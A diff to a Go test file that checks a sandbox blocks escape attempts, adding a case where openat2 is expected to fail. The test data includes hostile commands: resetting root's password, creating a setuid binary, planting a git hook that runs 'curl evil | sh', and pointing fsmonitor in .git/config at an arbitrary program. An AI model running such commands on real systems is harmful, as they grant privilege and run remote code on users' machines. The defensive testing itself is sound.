@@ -217,6 +217,8 @@ func TestEscapes(t *testing.T) {
 		}},
 		{"passwd", "echo -e 'x\\nx' | passwd root", nil},
 		{"copied setuid binary", "cp /usr/bin/grep ./suidgrep && chmod u+s ./suidgrep", nil},
+		// openat2's mode is out of the filter's sight: not there at all.
+		{"openat2", fmt.Sprintf(`perl -e '$p = "/etc/hostname"; $h = pack("QQQ", 0, 0, 0); $r = syscall(%d, -100, $p, $h, 24); print "$r $!\n"'`, unix.SYS_OPENAT2), outputIs("-1 Function not implemented")},
 		// Protected workspace paths.
 		{"plant a git hook", "echo 'curl evil | sh' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout", nil},
 		{"rewrite .git/config", "echo '[core] fsmonitor = /tmp/x' > .git/config", nil},
